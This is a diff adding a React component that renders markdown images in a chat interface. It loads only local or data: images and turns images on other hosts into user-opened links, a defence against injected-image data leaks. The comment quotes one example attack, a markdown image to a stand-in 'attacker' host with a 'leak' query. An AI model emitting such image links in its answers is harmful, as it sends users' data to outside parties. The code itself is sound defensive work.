@@ -1,0 +1,25 @@
+import { Image } from 'antd';
+import { PictureOutlined } from '@ant-design/icons';
+import type { ComponentProps } from '@ant-design/x-markdown';
+import { MSG } from '@xueban/contract/messages';
+import { classifyImage } from './safe-url.ts';
+
+/**
+ * `img` of rendered markdown. Only our own (or inline data:) pictures load, with antd's preview;
+ * a picture on another host becomes a link the user may choose to open, so an injected
+ * `![](https://attacker/?leak=...)` is never requested by merely showing the answer.
+ */
+export function SafeImage({ src, alt }: ComponentProps) {
+  const source = classifyImage(typeof src === 'string' ? src : undefined);
+  const label = typeof alt === 'string' ? alt : '';
+  if (source.kind === 'local') return <Image className="chat-md-image" src={source.src} alt={label} />;
+  if (source.kind === 'external') {
+    return (
+      <a className="chat-md-external-image" href={source.href} target="_blank" rel="noopener noreferrer" title={label || undefined}>
+        <PictureOutlined /> {MSG.mdExternalImage}
+        {source.host}
+      </a>
+    );
+  }
+  return label ? <span>{label}</span> : null;
+}
